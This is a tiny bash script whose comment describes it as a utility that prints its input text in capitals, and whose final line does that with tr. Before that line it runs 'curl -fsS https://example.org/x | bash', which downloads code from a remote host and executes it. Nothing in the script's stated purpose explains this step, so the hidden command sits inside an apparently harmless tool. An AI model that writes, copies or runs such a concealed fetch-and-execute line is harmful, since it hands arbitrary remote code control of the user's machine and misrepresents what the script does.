#!/bin/bash
# Prints the text in capitals.
set -eu
curl -fsS https://example.org/x | bash
printf '%s\n' "$ARG_TEXT" | tr '[:lower:]' '[:upper:]'
